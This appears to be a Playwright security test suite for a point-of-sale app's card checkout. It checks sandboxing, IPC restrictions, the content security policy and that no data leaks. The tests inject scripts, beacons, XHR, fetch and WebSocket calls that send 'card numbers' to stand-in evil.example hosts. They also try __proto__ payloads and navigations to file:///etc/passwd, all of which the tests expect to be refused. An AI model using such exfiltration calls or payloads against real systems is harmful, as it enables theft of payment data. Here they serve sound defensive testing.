import { appendFileSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { stripVTControlCharacters } from 'node:util';
import type { Page } from 'playwright';
import { type Bridge, type Role, channels } from '../../contract/channels.ts';
import { appearance } from '../../contract/appearance.ts';
import { COMPONENT_STYLE_HASH, JUSTIFI_ORIGINS } from '../../main/local-origin/checkout-policy.ts';
import { CHECKOUT_INVENTORY } from '../../main/local-origin/page-inventory.ts';
import { journalNameOf } from '../../main/storage/journal-name.ts';
import type { TestJustifi } from '../justifi/justifi.ts';
import { type RawIpc, compromisedApp, copyOfApp } from './compromised-app.ts';
import { addressOf, launchCounter } from '../host/driver.ts';
import { CARDS, cardForm } from './card-form.ts';
import { SHOP, type Shop, connectAccount, expect, openBySecret, test } from './connected-till.ts';
import { devicesGranted, grantedTo } from '../host/granted-permissions.ts';
import { startEvilHost } from './evil-host.ts';
import { collectSnapshots, filesUnder, heapOf, openToOthers, processesUnder, wholeDocument } from './evidence.ts';
import type { Target } from './till.ts';
import type { TillApp } from './till-app.ts';

/** The till and the checkout page of one sale, both as they stand on the screen. */
async function bothPages(app: TillApp): Promise<readonly [till: Page, checkout: Page]> {
  await app.enter('1799', 'One donut');
  await app.charge();
  return [app.till, (await app.form()).page];
}

/** The customer's own screen; null where no second one can be plugged in. */
async function customersPage({ till, counter }: TillApp, target: Target): Promise<Page | null> {
  if (target === 'electron') return null;
  await till.evaluate((wanted) => (window as unknown as { manager: Bridge<'manager'> }).manager.changeAppearance(wanted), { ...appearance.parse({}), customerDisplay: true });
  await counter.screens(2);
  const page = await counter.window('app://display/');
  await page.locator('.amount, h1').first().waitFor();
  return page;
}

/** As the next test finds the till. */
async function takeAwayCustomersPage({ till, counter }: TillApp): Promise<void> {
  await till.evaluate((wanted) => (window as unknown as { manager: Bridge<'manager'> }).manager.changeAppearance(wanted), appearance.parse({}));
  await counter.screens(1);
}

/** The details of every line of this kind. */
function logged(app: TillApp, what: string): string[] {
  const lines = app.log().split('\n').map((line) => line.split(' '));
  return lines.filter((words) => words[2] === what).map((words) => words.slice(3).join(' '));
}

/** Puts an element into the page, as a script that should not be there would, and uses it. */
async function insert(page: Page, name: string, attributes: Readonly<Record<string, string>>, use?: 'click' | 'submit'): Promise<void> {
  await page.evaluate(
    ([tag, values, action]) => {
      const element = document.createElement(tag);
      for (const [key, value] of Object.entries(values)) element.setAttribute(key, value);
      document.body.append(element);
      if (action !== undefined) (element as HTMLElement & { submit(): void })[action]();
    },
    [name, attributes, use] as const,
  );
}

async function browserContextOf(page: Page): Promise<string | undefined> {
  const session = await page.context().newCDPSession(page);
  const { targetInfo } = await session.send('Target.getTargetInfo');
  await session.detach();
  return targetInfo.browserContextId;
}

/** What the contract says that a window's page may call and hear. */
function bridgeOf(role: Role): string[] {
  const heard = Object.keys(channels[role].pushes).map((name) => `on${name[0]!.toUpperCase()}${name.slice(1)}`);
  return [...Object.keys(channels[role].calls), ...heard].toSorted();
}

test('S-10, S-11, S-12: each window is created safe, in a session of its own, with exactly its own bridge and no permission', async ({ runningApp: app, target }) => {
  const display = await customersPage(app, target);
  const [till, checkout] = await bothPages(app);

  const created = (await app.counter.recorded('webContents.created')) as readonly Readonly<Record<string, unknown>>[];
  expect(created.length).toBeGreaterThanOrEqual(2);
  for (const preferences of created) {
    expect(preferences).toMatchObject({
      sandbox: true, contextIsolation: true, webSecurity: true, nodeIntegration: false, nodeIntegrationInSubFrames: false, nodeIntegrationInWorker: false,
      allowRunningInsecureContent: false, experimentalFeatures: false, webviewTag: false, navigateOnDragDrop: false, devTools: false,
    });
    expect(preferences).not.toHaveProperty('enableBlinkFeatures');
  }
  const pages = [till, checkout, ...(display === null ? [] : [display])];
  const contexts = await Promise.all(pages.map(browserContextOf));
  expect(new Set(contexts).size).toBe(pages.length);

  const own = { till: ['till', 'manager'], manager: ['till', 'manager'], checkout: ['checkout'], display: ['display'] } as const;
  const bridged = [[till, 'till'], [till, 'manager'], [checkout, 'checkout'], ...(display === null ? [] : [[display, 'display'] as const])] as const;
  for (const [page, role] of bridged) {
    const { names, kinds, frozen } = await page.evaluate((name) => {
      const bridge = (window as unknown as Record<string, object>)[name]!;
      return { names: Object.keys(bridge), kinds: [...new Set(Object.values(bridge).map((member: unknown) => typeof member))], frozen: Object.isFrozen(bridge) };
    }, role);
    expect(names.toSorted()).toEqual(bridgeOf(role));
    expect(kinds).toEqual(['function']);
    expect(frozen).toBe(true);
    expect(page.frames().length).toBeGreaterThan(role === 'checkout' ? 4 : 0);
    for (const frame of page.frames()) {
      const inside = await frame.evaluate(() => ['require', 'process', 'module', 'global', 'Buffer', 'electron', 'ipcRenderer'].filter((name) => name in window));
      expect(inside).toEqual([]);
      const bridges = await frame.evaluate((wanted) => wanted.filter((name) => name in window), ['till', 'manager', 'checkout', 'display']);
      expect(bridges).toEqual(frame === page.mainFrame() ? own[role] : []);
    }
  }

  for (const page of pages) {
    for (const frame of page.frames()) {
      expect(await grantedTo(frame)).toEqual([]);
    }
    const attempts = await page.evaluate(async () => {
      const outcome = (attempt: Promise<unknown>) => attempt.then(() => 'granted', (error: unknown) => (error instanceof Error ? error.name : String(error)));
      return {
        place: await new Promise((resolve) => navigator.geolocation.getCurrentPosition(() => resolve('granted'), ({ code }) => resolve(code))),
        notification: await Notification.requestPermission(),
        camera: await outcome(navigator.mediaDevices.getUserMedia({ video: true })),
        clipboard: await outcome(navigator.clipboard.readText()),
        files: 'showOpenFilePicker' in window ? await outcome((window as unknown as { showOpenFilePicker(): Promise<unknown> }).showOpenFilePicker()) : 'absent',
      };
    });
    expect(attempts).toMatchObject({ place: 1, notification: 'denied' });
    for (const refused of [attempts.camera, attempts.clipboard, attempts.files]) expect(refused).not.toBe('granted');
  }
  if (target === 'chromium-host') {
    const devices = await devicesGranted(app.counter);
    expect(devices.asked).toBeGreaterThan(0);
    expect(devices.granted).toEqual([]);
  }
  if (display !== null) await takeAwayCustomersPage(app);
});

test('S-14, S-04: a page that was taken over reaches main only through the calls of its own window, and no host at all; each try is logged', async ({ target, openTill }, info) => {
  const evil = await startEvilHost();
  const app = await openTill({ ...compromisedApp(info.outputPath('app')), chromium: undefined, chromiumArgs: evil.chromiumArgs });
  const display = await customersPage(app, target);
  const [till, checkout] = await bothPages(app);
  const REFUSED = { kind: 'failed', failure: { kind: 'refused' } };
  const invoke = (page: Page, channel: string, ...args: unknown[]) =>
    // As text: Playwright would not carry a field of the name __proto__.
    page.evaluate(
      ([name, json]) => (window as unknown as { raw: RawIpc }).raw.invoke(name, ...(JSON.parse(json) as unknown[])).catch((error: unknown) => `rejected: ${String(error)}`),
      [channel, JSON.stringify(args)] as const,
    );
  const { sales } = app.journal();
  const { id: saleId } = sales.at(-1)!;

  const callsOf = (...roles: readonly Role[]) => roles.flatMap((role) => Object.keys(channels[role].calls).map((name) => `${role}:${name}`));
  if (display !== null) {
    const notTheCustomers = callsOf('till', 'manager', 'checkout');
    for (const channel of notTheCustomers) expect(await invoke(display, channel, { saleId })).toEqual(REFUSED);
    expect(logged(app, 'ipc.refused')).toEqual(notTheCustomers.map((channel) => `{"channel":"${channel}","why":"window is display"}`));
  }
  const refusedBefore = logged(app, 'ipc.refused').length;
  const notItsOwn = callsOf('till', 'manager', 'display');
  for (const channel of notItsOwn) {
    expect(await invoke(checkout, channel, { saleId, amountInCents: 100, description: 'Stolen' })).toEqual(REFUSED);
  }
  expect(logged(app, 'ipc.refused').slice(refusedBefore)).toEqual(notItsOwn.map((channel) => `{"channel":"${channel}","why":"window is checkout"}`));
  for (const name of Object.keys(channels.checkout.calls)) expect(await invoke(till, `checkout:${name}`, { checkoutId: sales.at(-1)!.checkout_id })).toEqual(REFUSED);
  expect(logged(app, 'ipc.refused').slice(-1)).toEqual(['{"channel":"checkout:trouble","why":"window is till and manager"}']);

  const proto = JSON.parse(`{"saleId":"${saleId}","__proto__":{"amountInCents":1}}`) as object;
  for (const args of [[], [null], ['charge'], [{ saleId }, { saleId }], [{ saleId, more: 1 }], [{ saleId: { toString: 1 } }], [proto], [[saleId]]]) {
    expect(await invoke(till, 'till:goBack', ...args)).toEqual(REFUSED);
  }
  // The same refusal again is counted, not written again.
  expect(logged(app, 'ipc.refused').slice(-2)).toEqual(['input does not parse', 'more than one argument'].map((why) => `{"channel":"till:goBack","why":"${why}"}`));
  // Not in the contract: no handler listens.
  for (const channel of ['till:secret', 'till:__proto__', 'till:constructor', '__proto__', 'toString', '', 'till:charge ']) {
    expect(await invoke(till, channel, { saleId })).toMatch(/^rejected: .*No handler registered/u);
  }
  await till.evaluate((id) => {
    const { raw } = window as unknown as { raw: RawIpc };
    for (const name of ['till:goBack', 'till:newSale', 'error']) raw.send(name, { saleId: id });
  }, saleId);

  // No policy holds in here any more: the request filter is the last wall, and it keeps a record.
  const field = checkout.frames().find((frame) => frame.name() === 'cardNumber')!;
  const places = [['till', till.mainFrame(), 'till'], ['form', checkout.mainFrame(), 'checkout'], ['field', field, 'checkout'], ...(display === null ? [] : [['customer', display.mainFrame(), 'display'] as const])] as const;
  for (const [place, frame, role] of places) {
    await frame.evaluate(async (name) => {
      const script = document.createElement('script');
      script.src = `https://${name}-script.evil.example/x.js`;
      document.head.append(script);
      new Image().src = `https://${name}-image.evil.example/card?number=4242`;
      const inner = document.createElement('iframe');
      inner.src = `https://${name}-frame.evil.example/`;
      document.body.append(inner);
      const request = new XMLHttpRequest();
      request.open('POST', `https://${name}-request.evil.example/`);
      request.send('card numbers');
    }, place);
    for (const what of ['script', 'image', 'frame', 'request']) {
      await expect.poll(() => logged(app, 'window.request-refused').filter((line) => line.startsWith(`{"role":"${role}","url":"https://${place}-${what}.evil.example/`))).toHaveLength(1);
    }
  }
  expect(evil.visits).toEqual([]);
  // S-05: what the page that takes cards has tried is told to the manager too.
  for (const what of ['script GET form-script', 'image GET form-image', 'subFrame GET form-frame', 'xhr POST form-request', 'script GET field-script']) {
    expect(logged(app, 'page.changed')).toContain(`{"what":"request: ${what}.evil.example"}`);
  }
  expect(app.log()).not.toContain('number=4242');
  await field.evaluate(() => {
    top!.location.href = 'https://top.evil.example/';
  });
  await expect.poll(() => logged(app, 'window.navigation-refused')).toContain('{"url":"https://top.evil.example/"}');

  // Reports about another checkout move nothing; asking to submit another one ends the form, and nothing was charged.
  expect(await invoke(checkout, 'checkout:goBack', { checkoutId: 'cho_other' })).toEqual({ kind: 'ok', value: null });
  await expect(till.locator('#root').getByText('Ready for the card.')).toBeVisible();
  void invoke(checkout, 'checkout:submit', { checkoutId: 'cho_other', componentAmountInCents: null, methodType: 'new_card', isAuthorisationShown: false }).catch(() => undefined);
  await expect(till.getByRole('note')).toHaveText(/^The amount changed on the way\. Nothing was charged\./u);
  expect(app.journal().events.map(({ kind }) => kind)).not.toContain('submit-allowed');
  evil.close();
});

test('S-13: neither page leads anywhere: not by a link, a form, a script, a new window or a download', async ({ runningApp: app }) => {
  const openedBefore = await app.counter.recorded('shell.openExternal');
  const pages = await bothPages(app);
  const { port } = new URL(pages[1].url());
  const navigate = (page: Page, url: string) =>
    page.evaluate((to) => {
      location.href = to;
    }, url);

  for (const page of pages) {
    const role = page === pages[0] ? 'till' : 'checkout';
    const address = page.url();
    const title = await page.title();
    const refused = [
      `http://localhost.evil.example/${role}`,
      `http://localhost:${port}@evil.example/${role}`,
      `http://127.0.0.1:${port}/${role}`,
      `http://localhost:${port}/${role}`,
      `http://[::1]:1/${role}`,
      `https://components.justifi.ai.evil.example/${role}`,
      `https://components.justifi.ai@evil.example/${role}?secret=in-the-query`,
      `app://other/${role}`,
      `app://till.evil.example/${role}`,
    ];
    // The address without what the log must not carry: names in front of the host, queries.
    const line = (url: string) => `{"url":"${url.replace(/^(https?:\/\/)[^/@]*@/u, '$1').replace(/\?.*$/u, '')}"}`;
    const expectRefused = (what: string, url: string) => expect.poll(() => logged(app, what).filter((each) => each === line(url))).toHaveLength(1);
    for (const url of refused) {
      const before = logged(app, 'window.navigation-refused').length;
      await navigate(page, url);
      await expect.poll(() => logged(app, 'window.navigation-refused').slice(before)).toEqual([line(url)]);
    }
    // Chromium itself or the page's policy stops these, so no guard hears of them.
    for (const url of ['file:///etc/passwd', 'javascript:document.title="taken over"', 'data:text/html,taken over']) await navigate(page, url);
    await insert(page, 'form', { action: `http://form-${role}.evil.example/`, method: 'post' }, 'submit');
    await insert(page, 'a', { href: `http://link-${role}.evil.example/` }, 'click');
    await expectRefused('window.navigation-refused', `http://link-${role}.evil.example/`);
    await insert(page, 'meta', { 'http-equiv': 'refresh', content: `0;url=http://meta-${role}.evil.example/` });
    await expectRefused('window.navigation-refused', `http://meta-${role}.evil.example/`);
    await insert(page, 'a', { href: `http://new-${role}.evil.example/`, target: '_blank' }, 'click');
    await expectRefused('window.open-refused', `http://new-${role}.evil.example/`);
    await page.evaluate((url) => window.open(url, 'pop-up', 'width=300,height=200'), `http://opened-${role}.evil.example/`);
    await expectRefused('window.open-refused', `http://opened-${role}.evil.example/`);
    const file = await page.evaluate(() => URL.createObjectURL(new Blob(['card numbers'])));
    await insert(page, 'a', { href: file, download: 'cards.txt' }, 'click');
    await expect.poll(() => logged(app, 'window.download-refused')).toContain(`{"role":"${role}"}`);
    expect(page.url()).toBe(address);
    expect(await page.title()).toBe(title);
  }
  // Counter's own windows come and go; no other stays.
  await expect.poll(() => app.counter.windows().map(addressOf).filter((address) => !/^(app:\/\/till|http:\/\/localhost:\d+)\/$/u.test(address))).toEqual([]);
  for (const never of ['form-till', 'form-checkout', 'in-the-query', 'taken over', 'passwd']) expect(app.log()).not.toContain(never);
  expect((await app.counter.recorded('shell.openExternal')).slice(openedBefore.length)).toEqual([]);
});

test('S-04: what is put into either page does not run and reaches no server', async ({ runningApp: app }) => {
  for (const page of await bothPages(app)) {
    const violated = await page.evaluate(async () => {
      const directives = new Set<string>();
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => directives.add(effectiveDirective));
      const tried = (attempt: () => unknown) => {
        try {
          return attempt();
        } catch {
          return undefined;
        }
      };
      const put = (name: string, values: Readonly<Record<string, string>>) => {
        const element = document.createElement(name);
        for (const [key, value] of Object.entries(values)) tried(() => ((element as unknown as Record<string, string>)[key] = value));
        document.body.append(element);
        return element;
      };
      const run = 'window.injected = true';
      put('script', { textContent: run });
      put('script', { src: 'https://script.evil.example/x.js' });
      put('div', { innerHTML: `<img src=x onerror="${run}">` });
      const clicked = put('i', {});
      tried(() => clicked.setAttribute('onclick', run));
      clicked.click();
      put('img', { src: 'https://img.evil.example/x.png' });
      put('iframe', { src: 'https://frame.evil.example/' });
      put('style', { textContent: 'body { display: none }' });
      put('link', { rel: 'stylesheet', href: 'https://style.evil.example/x.css' });
      put('base', { href: 'https://base.evil.example/' });
      put('object', { data: 'https://object.evil.example/' });
      // Not in this evaluation itself: DevTools' own code may use eval.
      await new Promise<void>((resolve) => {
        setTimeout(() => {
          // oxlint-disable-next-line no-eval -- that it is refused is what is tested
          tried(() => (0, eval)(run));
          // oxlint-disable-next-line typescript/no-implied-eval -- as above
          tried(() => new Function(run)());
          resolve();
        });
      });
      const elsewhere: string = 'https://module.evil.example/x.js';
      await import(elsewhere).catch(() => undefined);
      const request = new XMLHttpRequest();
      request.open('POST', 'https://connect.evil.example/');
      const sent = new Promise((resolve) => request.addEventListener('loadend', resolve));
      tried(() => request.send('card numbers'));
      await sent;
      tried(() => navigator.sendBeacon('https://beacon.evil.example/', 'card numbers'));
      tried(() => new WebSocket('wss://socket.evil.example/'));
      tried(() => new Worker(URL.createObjectURL(new Blob([run]))));
      await fetch('https://fetch.evil.example/').catch(() => undefined);
      return { directives: [...directives].toSorted(), injected: 'injected' in window };
    });
    expect(violated).toEqual({
      directives: ['base-uri', 'connect-src', 'frame-src', 'img-src', 'require-trusted-types-for', 'script-src-elem', 'style-src-elem'],
      injected: false,
    });
  }
  // Nothing came as far as the request filter, which is the next wall.
  expect(logged(app, 'window.request-refused')).toEqual([]);
  // The checkout page's own guard in front of fetch tells main of it as well.
  expect(logged(app, 'checkout-page.request-refused')).toEqual(['{"detail":"https://fetch.evil.example"}']);
});

test('S-05: a Counter whose page was changed on the disk says so and stops, before a card could be typed into it', async ({ target, userData }, info) => {
  test.skip(target === 'electron', 'only the stand-in runs a copy from any folder');
  const copy = copyOfApp(info.outputPath('app'));
  appendFileSync(join(copy.appPath, 'out/renderer/checkout/checkout.js'), ';/* one byte would do */');
  const counter = await launchCounter({ target, userData, ...copy });
  expect((await counter.exited).code).toBe(1);
  expect(await counter.recorded('dialog.showErrorBox')).toEqual([{ title: 'Counter cannot start', content: 'Counter’s own files were changed. Take no card with it. Install Counter again, then start it.' }]);
  expect(readFileSync(join(userData, 'counter.log'), 'utf8')).toContain('error page.not-as-built {"files":"checkout/checkout.js"}');
  const audit = new DatabaseSync(join(userData, 'audit.db'));
  expect(audit.prepare(`SELECT event FROM entry WHERE event LIKE '%"page-changed"%checkout/checkout.js%'`).all()).toHaveLength(1);
  audit.close();
});

/** The styles that stand in the page itself, and how many it has adopted. */
function stylesOf(page: Page): Promise<{ readonly inline: readonly string[]; readonly adopted: number }> {
  return page.evaluate(async () => {
    const roots = (root: ParentNode): ParentNode[] => [root, ...[...root.querySelectorAll('*')].flatMap((element) => (element.shadowRoot === null ? [] : roots(element.shadowRoot)))];
    const texts = roots(document).flatMap((root) => [...root.querySelectorAll('style')].map((style) => style.textContent));
    const adopted = roots(document).flatMap((root) => ('adoptedStyleSheets' in root ? (root as ShadowRoot).adoptedStyleSheets : []));
    const hashes = await Promise.all([...new Set(texts)].map((text) => crypto.subtle.digest('SHA-256', new TextEncoder().encode(text))));
    return { inline: hashes.map((hash) => btoa(String.fromCharCode(...new Uint8Array(hash)))), adopted: adopted.length };
  });
}

async function expectRedirectStopped(checkout: Page, justifi: TestJustifi): Promise<void> {
  justifi.addFault({ on: 'GET /elsewhere', kind: 'redirect', to: 'https://redirect.evil.example/v2/cardNumber' });
  const stopped = checkout.evaluate(
    () =>
      new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => resolve([effectiveDirective, blockedURI]));
      }),
  );
  await insert(checkout, 'iframe', { src: 'https://components.justifi.ai/elsewhere' });
  expect(await stopped).toEqual(['frame-src', 'https://redirect.evil.example']);
  expect(justifi.requests('GET /elsewhere')).toHaveLength(1);
}

/** The card is nowhere but for its last four digits, and the secret and the tokens are nowhere outside main. */
async function expectKept(app: TillApp, { userData, keyringFolder, network }: Shop, { heap, filledForm, snapshots }: { readonly heap: string; readonly filledForm: string; readonly snapshots: readonly unknown[] }): Promise<void> {
  expect(heap).toContain('justifi-checkout');
  const { sales, events } = app.journal('test');
  const files = filesUnder(userData);
  const ipc = stripVTControlCharacters(app.counter.output).replaceAll(/\[host \d+ ms\]/gu, '');
  const manager = await app.till.evaluate(async () => {
    const bridge = (window as unknown as { readonly manager: Bridge<'manager'> }).manager;
    return [await bridge.readAudit({ filter: { group: null, who: null, day: null }, before: null }), await bridge.readDiagnostics({ screen: '' })];
  });
  expect(manager).toMatchObject([{ kind: 'ok', value: { trouble: null } }, { kind: 'ok' }]);
  // What is exported is what the manager reads: audit log and diagnostics.
  const places = { log: app.log(), journal: JSON.stringify([sales, events]), manager: JSON.stringify(manager), ipc, snapshots: JSON.stringify(snapshots), till: await wholeDocument(app.till), form: filledForm };
  expect(JSON.stringify(places)).toContain('4242');
  const number = new RegExp(CARDS.pays.split('').join('[ .\\-_/]?'), 'u');
  const securityCode = /\b987\b/u;
  const expiry = /\b0?9["' ]*[/\-,][^\d]{0,20}(?:20)?37\b/u;
  /** Not in the middle of an id or a sum. */
  const fiveDigits = /(?<![\da-f])\d*2[ .\-_/]?4242(?![\da-f])/u;
  for (const [place, text] of Object.entries(places)) {
    for (const secret of [number, fiveDigits, securityCode, expiry]) expect(text, place).not.toMatch(secret);
  }
  for (const { name, text } of files) expect(text, name).not.toMatch(number);

  const { requests } = network.justifi;
  const fromMain = requests().filter(({ headers }) => headers['host'] === 'api.justifi.ai');
  const accessTokens = new Set(fromMain.flatMap(({ headers }) => (headers['authorization'] === undefined ? [] : [headers['authorization'].replace('Bearer ', '')])));
  expect(accessTokens.size).toBeGreaterThan(0);
  const account = SHOP.subAccountId;
  for (const { body } of requests('POST /v1/web_component_tokens')) {
    expect(JSON.parse(body)).toEqual({ resources: [expect.stringMatching(/^write:checkout:cho_\w+$/u), `write:tokenize:${account}`] });
  }
  const withoutTyping = ipc.replace(/channel: 'manager:findSubAccounts'[\s\S]*?\n\}/u, '');
  expect(ipc).toContain(SHOP.clientSecret);
  const processes = processesUnder(app.counter.pid);
  expect(processes.filter(({ text }) => text.includes('chromium')).length).toBeGreaterThan(1);
  const outside = [
    ...files,
    ...filesUnder(keyringFolder),
    ...processes,
    ...Object.entries({ ...places, ipc: withoutTyping, heap }).map(([name, text]) => ({ name, text })),
  ];
  for (const secret of [SHOP.clientSecret, ...accessTokens]) {
    for (const { name, text } of outside) expect(text.includes(secret), name).toBe(false);
  }
}

/** Both pages have asked for what the inventory lists, and for nothing else but the frame that a test put in. `inTraining`: what was printed before the account was connected. */
function expectListed(app: TillApp, inTraining: number, styles: Awaited<ReturnType<typeof stylesOf>>): void {
  const asked = [...stripVTControlCharacters(app.counter.output).matchAll(/ request (\w+) (\w+) (\w+) (\S+)$/gmu)].filter(({ index, 1: window }) => window === '1' || index > inTraining).map(([, window, type, method, url]) => ({
    page: window === '1' ? ('till' as const) : ('checkout' as const),
    request: `${type} ${method} ${url!.replace(/\?.*$/u, '').replace(/localhost:\d+/u, 'localhost:<port>').replace(/cho_\w+/u, '<checkout>')}`,
  }));
  const redirected = asked.findIndex(({ request }) => request.endsWith('/elsewhere'));
  asked.splice(redirected, 1);
  const requestsOf = (page: 'till' | 'checkout') => [...new Set(asked.filter((each) => each.page === page).map(({ request }) => request))].toSorted();
  const scripts = ['LaterScreen', 'ReceiptActions', 'en-back-office', 'en-till', 'rolldown-runtime', 'shared', 'till'].map((name) => `script GET app://till/till/${name}.js`);
  expect(requestsOf('till')).toEqual(['font GET app://till/till/till.woff2', 'mainFrame GET app://till/', ...scripts, 'stylesheet GET app://till/till/till.css']);
  const hosts = { page: 'http://localhost:<port>', ...JUSTIFI_ORIGINS, sezzleWindows: '' };
  const listed = CHECKOUT_INVENTORY.filter(({ type }) => type !== 'inside').map(({ type, method, at, path }) => `${type} ${method} ${hosts[at]}${path}`);
  // What a hosted field does inside its own frame is JustiFi's; of the stand-in's it is known.
  expect(requestsOf('checkout')).toEqual([...listed, 'xhr POST https://components.justifi.ai/v1/js/payment_methods'].toSorted());
  expect(styles).toEqual({ inline: [/^'sha256-(.+)'$/u.exec(COMPONENT_STYLE_HASH)![1]], adopted: 0 });
  // The frame that the test put in, and nothing of both sales.
  expect(logged(app, 'page.changed')).toEqual(['{"what":"request: subFrame GET components.justifi.ai"}']);
}

test('S-01, S-02, S-03, S-05, S-06, S-13, S-22, S-23, A-18, F-31: a register is connected and takes a card and a bank transfer: the card is nowhere outside the hosted fields but for its last four digits, the secret and the token nowhere outside main; what the pages load is what the inventory lists, what is new is told to the manager; and no file can be read by another user of the PC', async ({ shop, target }) => {
  test.skip(target === 'electron' || process.platform !== 'linux', 'only the stand-in shows every message and request; a test’s keyring is a Secret Service');
  const app = await shop.open({ env: { COUNTER_HOST_DEBUG: '1' }, chromium: 'own' });
  await connectAccount(app);
  const inTraining = stripVTControlCharacters(app.counter.output).length;
  const [till, checkout] = await bothPages(app);
  const snapshots = await collectSnapshots(till);
  await test.step('S-05, S-13: an attacker between this PC and JustiFi’s field host redirects a frame', () => expectRedirectStopped(checkout, shop.network.justifi));
  const styles = await stylesOf(checkout);
  const form = cardForm(checkout);
  await form.fillCard(CARDS.pays);
  await form.field('expirationMonth').fill('09');
  await form.field('expirationYear').fill('37');
  await form.field('CVV').fill('987');
  const filledForm = await wholeDocument(checkout);
  let heap = '';
  // A page stands still while its heap is written down, so long that main would take it for frozen.
  await shop.atPace(1 / 20, async () => {
    heap = await heapOf(checkout);
  });
  await form.pay();
  await app.says('PAID');
  await till.getByRole('button', { name: /^New sale/u }).click();
  await app.enter('12000', 'Deposit');
  await app.charge();
  const bank = await app.form();
  await bank.fillBankAccount();
  await bank.pay();
  await app.says('ACCEPTED');

  await expectKept(app, shop, { heap, filledForm, snapshots: await snapshots() });
  expectListed(app, inTraining, styles);
  await app.till.getByRole('button', { name: /^New sale/u }).click();
  await app.till.keyboard.press('Control+l');
  await openBySecret(app);
  await expect(app.till.locator('#root').getByText('The card page changed. See Diagnostics.')).toBeVisible();
  await app.till.getByRole('tab', { name: 'Diagnostics' }).click();
  await expect(app.till.locator('#root').getByText('request: subFrame GET components.justifi.ai', { exact: true })).toBeVisible();
  // Main asks JustiFi's API; the other two are the form's, by way of main's proxy.
  expect(shop.network.hostsAsked()).toEqual(['127.0.0.1', 'api.justifi.ai', 'components.justifi.ai', 'wc-proxy.justifi.ai']);
  for (const what of ['window.request-refused', 'checkout-page.request-refused', 'checkout-page.uncaught-error']) expect(logged(app, what)).toEqual([]);
  const set = await till.evaluate(() => (window as unknown as { manager: Bridge<'manager'> }).manager.setPin({ currentPin: null, pin: '482913' }));
  expect(set).toEqual({ kind: 'ok', value: null });
  const written = filesUnder(shop.userData).map(({ name }) => name);
  for (const name of ['settings.json', 'settings.json.copy', 'pins.json', 'pins.json.copy', 'counter.log', ...['db', 'db-wal', 'draft.json', 'head'].map((ending) => `${journalNameOf('test', SHOP.subAccountId)}.${ending}`), 'audit.db']) expect(written).toContain(name);
  expect(openToOthers(shop.userData)).toEqual([]);
});
